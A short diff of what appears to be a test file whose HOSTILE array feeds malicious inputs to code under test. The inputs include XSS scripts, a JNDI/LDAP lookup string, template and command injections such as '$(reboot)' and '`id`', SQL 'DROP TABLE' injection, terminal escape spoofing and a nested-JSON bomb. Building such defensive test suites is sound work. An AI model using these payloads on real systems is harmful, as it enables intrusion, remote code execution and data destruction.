@@ -14,6 +14,7 @@ const HOSTILE = [
   Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x20, 0xed, 0xa0, 0x80]),
   Buffer.from('\u001b[2J\u001b]0;owned\u0007 \u009b31m \u202egnp.exe'),
   Buffer.from('<img src=x onerror=alert(1)></script><script>alert(2)</script>'),
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack, not a template
   Buffer.from('${jndi:ldap://192.0.2.1/a} {{7*7}} <%= 1 %> #{x} $(reboot) `id` %s%n'),
   Buffer.from("'; DROP TABLE events; -- \\u0000 \\x00"),
   Buffer.from(`{"a":${'['.repeat(20_000)}${']'.repeat(20_000)}}`),
